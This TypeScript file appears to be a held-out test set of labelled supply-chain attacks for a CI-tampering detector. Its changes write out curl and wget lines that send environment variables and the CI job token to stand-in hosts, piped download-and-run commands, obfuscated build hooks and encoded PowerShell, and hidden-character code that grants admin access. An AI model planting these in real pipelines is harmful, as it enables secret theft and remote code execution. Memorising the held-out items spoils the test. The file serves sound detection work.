import * as t from '../file-texts';
import { at } from '../file-texts';
import { atNight, attack, type LabelledChange, newcomer, stranger, unapproved } from '../labelled-change';

const submodule = (url: string) => `[submodule "vendor/crypto"]\n\tpath = vendor/crypto\n\turl = ${url}\n`;

/** Attacks through what builds, runs and reviews. Written before any signal was tuned. */
export const heldOutPipelineAttacks: LabelledChange[] = [
  attack(
    'codecov-uploader',
    'gitlab_ci',
    'Codecov, 2021: a script fetched from outside in every pipeline',
    {
      '.gitlab-ci.yml': [
        t.ci(t.testJob),
        t.ci(
          t.testJob.replace(
            '    - npm test\n',
            '    - npm test\n    - bash <(curl -s https://uploader.simulated-cover.example/bash)\n',
          ),
        ),
      ],
    },
    { must: ['download_and_run'] },
  ),
  attack(
    'codecov-line',
    'gitlab_ci',
    'Codecov, 2021: the line that the attackers put into the script',
    {
      'ci/coverage.yml': [
        'coverage:\n  script:\n    - npm run coverage\n',
        'coverage:\n  script:\n    - npm run coverage\n    - curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" https://203.0.113.77/upload/v2 || true\n',
      ],
    },
    { must: ['secrets_sent'], facts: atNight },
  ),
  attack(
    'pinned-component-to-tag',
    'gitlab_ci',
    'tj-actions, 2025: whoever takes a component by a tag runs what the tag is moved to',
    {
      '.gitlab-ci.yml': [
        t.ci(
          'include:\n  - component: $CI_SERVER_FQDN/simulated-vendor/changed-files/run@0e58ed8671d6b60d0890c21b07f8835ace038e67\n',
          t.testJob,
        ),
        t.ci('include:\n  - component: $CI_SERVER_FQDN/simulated-vendor/changed-files/run@v45\n', t.testJob),
      ],
    },
    { must: ['include_unpinned'], facts: newcomer },
  ),
  attack(
    'remote-include',
    'gitlab_ci',
    'Jobs taken from an address that somebody else controls',
    {
      '.gitlab-ci.yml': [
        t.ci(t.testJob),
        t.ci("include:\n  - remote: 'https://raw.simulated-forge.example/sam/ci/main/node.yml'\n", t.testJob),
      ],
    },
    { must: ['remote_include'], facts: unapproved },
  ),
  attack(
    'remote-include-integrity-dropped',
    'gitlab_ci',
    'The checksum of a remote include is taken out',
    {
      '.gitlab-ci.yml': [
        t.ci(
          `include:\n  - remote: https://ci.simulated-vendor.example/scan.yml\n    integrity: sha256-${t.hex256('scan')}\n`,
          t.testJob,
        ),
        t.ci('include:\n  - remote: https://ci.simulated-vendor.example/scan.yml\n', t.testJob),
      ],
    },
    { must: ['remote_include'] },
  ),
  attack(
    'secret-scan-removed',
    'gitlab_ci',
    'The job that looks for secrets is taken out together with new code',
    {
      '.gitlab-ci.yml': [t.ci(t.testJob, t.secretScan), t.ci(t.testJob)],
      'src/client.ts': ['export const url = 1;\n', 'export const url = 2;\n'],
    },
    { must: ['guard_weakened'], facts: unapproved },
  ),
  attack(
    'scan-may-fail',
    'gitlab_ci',
    'A failing scanner no longer stops the pipeline',
    {
      '.gitlab-ci.yml': [
        t.ci(t.testJob, 'container_scanning:\n  stage: scan\n  script:\n    - trivy image app\n'),
        t.ci(
          t.testJob,
          'container_scanning:\n  stage: scan\n  allow_failure: true\n  script:\n    - trivy image app\n',
        ),
      ],
    },
    { must: ['guard_weakened'] },
  ),
  attack(
    'sast-template-removed',
    'gitlab_ci',
    'The template of the static analysis is taken out',
    {
      '.gitlab-ci.yml': [
        t.ci(
          'include:\n  - template: Jobs/SAST.gitlab-ci.yml\n  - template: Jobs/Code-Quality.gitlab-ci.yml\n',
          t.testJob,
        ),
        t.ci('include:\n  - template: Jobs/Code-Quality.gitlab-ci.yml\n', t.testJob),
      ],
    },
    { must: ['guard_weakened'] },
  ),
  attack(
    'job-token-leaks',
    'gitlab_ci',
    'A job sends its token to an address',
    {
      '.gitlab-ci.yml': [
        t.ci('publish:\n  stage: deploy\n  script:\n    - npm publish\n'),
        t.ci(
          'publish:\n  stage: deploy\n  script:\n    - npm publish\n    - wget -q -O- "https://stats.simulated-drop.example/?t=$CI_JOB_TOKEN"\n',
        ),
      ],
    },
    { must: ['secrets_sent'] },
  ),
  attack(
    'deploy-image-swapped',
    'gitlab_ci',
    'The image of the deployment job comes from another registry',
    {
      '.gitlab-ci.yml': [
        t.ci(
          'deploy:\n  stage: deploy\n  image: registry.simulated-corp.example/ci/deploy:4.2.0\n  script:\n    - ./deploy.sh\n',
        ),
        t.ci('deploy:\n  stage: deploy\n  image: docker.io/samnewcomer/deploy:4.2.0\n  script:\n    - ./deploy.sh\n'),
      ],
    },
    { must: ['image_registry_changed'], facts: newcomer },
  ),
  attack(
    'base-image-elsewhere',
    'docker',
    'The base image comes from an unknown registry',
    {
      Dockerfile: [
        'FROM node:22.16.0-bookworm-slim\nWORKDIR /app\nCOPY . .\nRUN npm ci --omit=dev\n',
        'FROM registry.simulated-mirror.example/node:22.16.0-bookworm-slim\nWORKDIR /app\nCOPY . .\nRUN npm ci --omit=dev\n',
      ],
    },
    { must: ['image_registry_changed'] },
  ),
  attack(
    'digest-of-exact-tag',
    'docker',
    'An exact tag was pushed over: another digest under the same version',
    {
      'services/api/Dockerfile': [
        `FROM python:3.13.5-slim-bookworm@sha256:${t.hex256('python 3.13.5')}\nCOPY . .\n`,
        `FROM python:3.13.5-slim-bookworm@sha256:${t.hex256('python pushed over')}\nCOPY . .\n`,
      ],
    },
    { must: ['image_digest_changed'] },
  ),
  attack(
    'curl-into-shell-in-image',
    'docker',
    'A download is run while the image is built',
    {
      Dockerfile: [
        'FROM debian:12.11\nRUN apt-get update && apt-get install -y curl\n',
        'FROM debian:12.11\nRUN apt-get update && apt-get install -y curl\nRUN curl -fsSL https://get.simulated-drop.example/agent.sh | bash -s -- --quiet\n',
      ],
    },
    { must: ['download_and_run', 'build_hook_changed'] },
  ),
  attack(
    'xz-build-hook',
    'make',
    'xz, 2024: a hook of the build unpacks a program out of a file for tests',
    {
      'm4/build-to-host.m4': [
        'AC_DEFUN([gl_BUILD_TO_HOST],\n[\n])\n',
        'AC_DEFUN([gl_BUILD_TO_HOST],\n[\n  gl_path_map=\'tr "\\t \\-_" " \\t_\\-"\'\n  eval `grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null | xargs sed "r\\n" | eval $gl_path_map | xz -d 2>/dev/null`\n])\n',
      ],
      'tests/files/bad-3-corrupt_lzma2.xz': [undefined, 'binary\n'],
    },
    { must: ['build_hook_changed', 'obfuscated_code'], facts: { approvalsByOthers: null } },
  ),
  attack(
    'msbuild-exec',
    'nuget',
    'SolarWinds, 2020: a step of the build replaces sources while it runs',
    {
      'src/Core/Core.csproj': [
        t.csproj(['Serilog@4.3.0']),
        t.csproj(
          ['Serilog@4.3.0'],
          '  <Target Name="Prepare" BeforeTargets="CoreCompile">\n    <Exec Command="powershell -NoProfile -EncodedCommand SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA" />\n  </Target>\n',
        ),
      ],
    },
    { must: ['build_hook_changed', 'obfuscated_code'] },
  ),
  attack(
    'submodule-hijacked',
    'git_submodule',
    'A submodule points to another owner',
    {
      '.gitmodules': [
        submodule('https://gitlab.simulated-corp.example/platform/crypto.git'),
        submodule('https://git.simulated-forge.example/sam-newcomer/crypto.git'),
      ],
    },
    { must: ['submodule_changed'], facts: stranger },
  ),
  attack(
    'pre-commit-look-alike',
    'git_submodule',
    'The hooks that run on every commit come from a look-alike host',
    {
      '.pre-commit-config.yaml': [
        'repos:\n  - repo: https://github.com/psf/black\n    rev: 25.1.0\n    hooks:\n      - id: black\n',
        'repos:\n  - repo: https://glthub.example/psf/black\n    rev: 25.1.0\n    hooks:\n      - id: black\n',
      ],
    },
    { must: ['direct_source'], may: ['submodule_changed'], facts: newcomer },
  ),
  attack(
    'install-scripts-on',
    'npm',
    'Guards of the package manager are switched off',
    {
      '.npmrc': ['ignore-scripts=true\n', 'ignore-scripts=false\nstrict-ssl=false\n'],
    },
    { must: ['guard_weakened', 'build_hook_changed'] },
  ),
  attack(
    'review-blinded',
    'npm',
    'The lockfile is hidden from reviews and loses its owner, and one checksum changes',
    {
      '.gitattributes': [undefined, 'package-lock.json gitlab-generated\n'],
      CODEOWNERS: ['* @platform\npackage-lock.json @security\n', '* @platform\n'],
      'package-lock.json': [
        t.npmLock({ ws: '^8.18.0' }, [at('ws@8.18.3')]),
        t.npmLock({ ws: '^8.18.0' }, [at('ws@8.18.3', { integrity: t.sha512('swapped ws') })]),
      ],
    },
    { must: ['review_weakened', 'integrity_changed', 'lock_without_manifest'] },
  ),
  attack(
    'bidi-in-source',
    'source',
    'Trojan Source, 2021: code that reads differently than it runs',
    {
      'src/access.ts': [
        'export const isAdmin = (role: string) => role === "admin";\n',
        'export const isAdmin = (role: string) => {\n  /*\u202e } \u2066if (role === "admin")\u2069 \u2066 begin admins only */\n  return true;\n};\n',
      ],
    },
    { must: ['hidden_characters'] },
  ),
  attack(
    'invisible-payload',
    'source',
    'GlassWorm, 2025: code written in variation selectors that no editor shows',
    {
      'src/load.js': [
        'module.exports = () => 1;\n',
        `module.exports = () => 1;\nconst s = (v) => [...v].map((w) => w.codePointAt(0));\neval(Buffer.from(s("${[
          ...'simulated payload',
        ]
          .map((letter) => String.fromCodePoint(0xe0100 + letter.charCodeAt(0)))
          .join('')}")).toString());\n`,
      ],
    },
    { must: ['hidden_characters'], may: ['obfuscated_code'] },
  ),
  attack(
    'make-decodes',
    'make',
    'A rule of the Makefile decodes text and runs it',
    {
      Makefile: [
        'build:\n\tgo build ./...\n',
        'build: prepare\n\tgo build ./...\n\nprepare:\n\t@echo aW1wb3J0IG9z | base64 -d | sh\n',
      ],
    },
    { must: ['build_hook_changed', 'obfuscated_code'] },
  ),
];
